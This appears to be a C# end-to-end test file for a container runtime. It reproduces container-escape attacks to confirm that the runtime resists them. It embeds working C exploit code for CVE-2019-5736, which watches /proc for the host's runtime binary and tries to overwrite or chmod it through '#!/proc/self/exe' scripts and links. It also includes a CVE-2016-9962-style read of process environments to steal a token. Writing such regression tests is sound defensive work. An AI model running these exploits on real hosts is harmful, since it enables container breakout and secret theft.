using System.Text.Json.Nodes;
using Quai.EndToEnd.Tests.Escapes.Harness;

namespace Quai.EndToEnd.Tests.Escapes.Programs;

/// <summary>The runtime's own program, reached from a container that makes it execute itself (CVE-2019-5736).</summary>
public sealed class ProgramEscapes(Engines engines) : EscapeTests(engines), IClassFixture<Engines>
{
    // Opens any large program that appears and is not the image's, and writes to it as soon as nobody runs it any more.
    private const string Watcher = """
        #include <fcntl.h>
        #include <stdio.h>
        #include <sys/stat.h>
        #include <time.h>
        #include <unistd.h>
        int main(void) {
            char path[64];
            struct stat busybox, self, there;
            stat("/bin/busybox", &busybox);
            stat("/proc/self/exe", &self);
            close(open("/watching", O_CREAT | O_WRONLY, 0600));
            for (int last = 1;;) {
                for (int pid = last; pid < last + 24; pid++) {
                    snprintf(path, sizeof path, "/proc/%d/exe", pid);
                    int fd = open(path, O_RDONLY);
                    if (fd < 0) continue;
                    if (pid > last + 12) last = pid - 12;
                    if (fstat(fd, &there) || there.st_ino == busybox.st_ino || there.st_ino == self.st_ino) { close(fd); continue; }
                    close(open("/held", O_CREAT | O_WRONLY, 0600));
                    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                    for (int i = 0; i < 300; i++) {
                        int out = open(path, O_WRONLY | O_APPEND);
                        if (out >= 0 && write(out, "X", 1) == 1) { close(open("/written", O_CREAT | O_WRONLY, 0600)); pause(); }
                        usleep(1000);
                    }
                    close(fd);
                }
            }
        }
        """;

    // Opens any program that appears and is not the image's, and sets its mode to what it already is: being permitted to is all that matters.
    private const string ModeSetter = """
        #include <dirent.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <sys/stat.h>
        #include <unistd.h>
        int main(void) {
            char path[300];
            struct stat busybox, self, there;
            stat("/bin/busybox", &busybox);
            stat("/proc/self/exe", &self);
            close(open("/watching", O_CREAT | O_WRONLY, 0600));
            for (;;) {
                DIR *all = opendir("/proc");
                for (struct dirent *entry; (entry = readdir(all));) {
                    if (atoi(entry->d_name) <= 0) continue;
                    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
                    int fd = open(path, O_RDONLY);
                    if (fd < 0) continue;
                    if (!fstat(fd, &there) && there.st_ino != busybox.st_ino && there.st_ino != self.st_ino) {
                        close(open("/held", O_CREAT | O_WRONLY, 0600));
                        if (!fchmod(fd, there.st_mode & 07777)) close(open("/changed", O_CREAT | O_WRONLY, 0600));
                    }
                    close(fd);
                }
                closedir(all);
            }
        }
        """;

    private readonly QuaidInstance _engine = engines.Today;

    private static readonly Attack[] s_attacks =
    [
        new("CVE-2019-5736: exec of a script whose interpreter is /proc/self/exe", s => TryAsync(s, "/evil")) { QuaidOnly = true },
        new("CVE-2019-5736: exec of /proc/self/exe", s => TryAsync(s, "/proc/self/exe")) { QuaidOnly = true },
        new("CVE-2019-5736: exec of a link to /proc/self/exe", s => TryAsync(s, "/bin/tool")) { QuaidOnly = true },
        new("CVE-2019-5736: exec of a script whose interpreter is /proc/thread-self/../exe", s => TryAsync(s, "/evil2")) { QuaidOnly = true },
        new("CVE-2019-5736 kind: the mode of the program that joins is set from inside", s => SetModeAsync(s, "/evil"))
        {
            // The same program, through a mount that is not read-only.
            Opened = s => SetModeAsync(s, "/writable"),
        },
        new("CVE-2016-9962 kind: the environment of who made a container is read by its neighbour in a process namespace", ReadEnvironmentAsync) { QuaidOnly = true },
    ];

    public static TheoryData<string> Names => NamesOf(s_attacks);

    [Theory, MemberData(nameof(Names))]
    public Task Gains_nothing(string name) => GainsNothingAsync(s_attacks, name);

    [ControlTheory, MemberData(nameof(Names))]
    public Task Is_real(string name) => IsRealAsync(s_attacks, name);

    [QuaidFact]
    public async Task A_privileged_container_of_the_daemon_cannot_write_to_the_shim()
    {
        Scene scene = new(_engine, TestEnvironment.BinDirectory, IsFirstVersion: false);
        string shim = Path.Combine(TestEnvironment.BinDirectory, "quai-shim"), folder = scene.Scratch();
        byte[] before = await File.ReadAllBytesAsync(shim);
        string watcher = await FillAsync(scene, folder);
        string name = _engine.Name();
        await _engine.Docker.OkAsync($"run -d --name {name} --privileged -v {watcher}:/watch -v {folder}/evil:/evil {BusyboxImage.Name} /watch");
        await Eventually.HoldsAsync(async () =>
        {
            await _engine.Docker.RunAsync($"exec {name} /evil");
            return (await _engine.Docker.RunAsync($"exec {name} test -e /held")).ExitCode == 0 ? null : "the shim's program was not seen";
        });
        Assert.NotEqual(0, (await _engine.Docker.RunAsync($"exec {name} test -e /written")).ExitCode);
        Assert.Equal(before, await File.ReadAllBytesAsync(shim));
    }

    private static async Task<string?> TryAsync(Scene scene, params string[] exec)
    {
        // A copy: the attack is deliberate.
        string program = Path.Combine(scene.Scratch(), "quai-runtime");
        File.Copy(scene.Runtime, program);
        byte[] before = await File.ReadAllBytesAsync(program);
        await using Bundle bundle = (await Bundle.MakeAsync(scene)).Running("/watch");
        bundle.Program = program;
        File.Copy(await FillAsync(scene, bundle.Root), Path.Combine(bundle.Root, "watch"));
        await bundle.StartAsync();
        await Eventually.HoldsAsync(() => File.Exists(Path.Combine(bundle.Root, "watching")) ? null : "the watcher does not run");
        for (int i = 0; i < 60; i++)
        {
            // Started and left: the waiting process runs the program, and a running program cannot be written to.
            await bundle.ShellAsync($"$R exec --detach $ID {string.Join(' ', exec)} </dev/null >/dev/null 2>&1; usleep 20000 2>/dev/null || sleep 0.02");
            if (File.Exists(Path.Combine(bundle.Root, "written")))
            {
                break;
            }
        }

        byte[] after = await File.ReadAllBytesAsync(program);
        bool changed = !before.AsSpan().SequenceEqual(after);
        bundle.Program = null;
        return changed ? "changed the host's quai-runtime" : null;
    }

    private static async Task<string?> SetModeAsync(Scene scene, string exec)
    {
        string name = scene.Engine.Name(), folder = scene.Scratch(), setter = await CProgram.CompileAsync(scene, ModeSetter);
        await FillAsync(scene, folder);
        File.Copy(Path.Combine(TestEnvironment.BinDirectory, "quai-shim"), Path.Combine(folder, "writable"));
        await scene.Docker.OkAsync($"run -d --name {name} -v {setter}:/watch -v {folder}/evil:/evil -v {folder}/writable:/writable {BusyboxImage.Name} /watch");
        try
        {
            await Eventually.HoldsAsync(async () => await HasAsync("/watching") ? null : "the watcher does not run");
            for (int i = 0; i < 60 && !await HasAsync("/changed"); i++)
            {
                await scene.Docker.RunAsync($"exec {name} {exec}");
            }

                return await HasAsync("/changed") ? "changed the mode of the program that joins containers" : null;
        }
        finally
        {
            await scene.Docker.RunAsync($"rm -f {name}");
        }

        async Task<bool> HasAsync(string path) => (await scene.Docker.RunAsync($"exec {name} test -e {path}")).ExitCode == 0;
    }

    private static async Task<string?> ReadEnvironmentAsync(Scene scene)
    {
        string secret = "secret-" + Guid.NewGuid().ToString("n");
        await using Bundle neighbour = (await Bundle.MakeAsync(scene)).Running("sleep", "600");
        foreach (string set in (string[])["bounding", "effective", "permitted"])
        {
            neighbour.Config["process"]!["capabilities"]![set]!.AsArray().Add("CAP_SYS_PTRACE");
        }

        await neighbour.StartAsync();
        string state = (await neighbour.ShellAsync("$R state $ID")).Expect().Stdout;
        int pid = (int)JsonNode.Parse(state)!["pid"]!;
        await using Bundle made = (await Bundle.MakeAsync(scene)).Running("true");
        JsonNode processes = made.Config["linux"]!["namespaces"]!.AsArray().Single(n => (string?)n!["type"] == "pid")!;
        processes["path"] = $"/proc/{pid}/ns/pid";
        (await made.ShellAsync($"TOKEN={secret} $R create --bundle {made.Folder} $ID </dev/null >/dev/null 2>&1")).Expect();
        CommandResult read = await neighbour.ExecAsync([], "sh", "-c", "cat /proc/[0-9]*/environ");
        Assert.Contains("PATH=", read.Stdout, StringComparison.Ordinal);
        return read.Stdout.Contains(secret, StringComparison.Ordinal) ? "read the environment of who made the container" : null;
    }

    private static async Task<string> FillAsync(Scene scene, string root)
    {
        Write("evil", "#!/proc/self/exe\n");
        Write("evil2", "#!/proc/thread-self/../../exe\n");
        if (Directory.Exists(Path.Combine(root, "bin")))
        {
            File.CreateSymbolicLink(Path.Combine(root, "bin", "tool"), "/proc/self/exe");
        }

        return await CProgram.CompileAsync(scene, Watcher);

        void Write(string name, string text)
        {
            string path = Path.Combine(root, name);
            File.WriteAllText(path, text);
            File.SetUnixFileMode(path, (UnixFileMode)0b111_101_101);
        }
    }
}
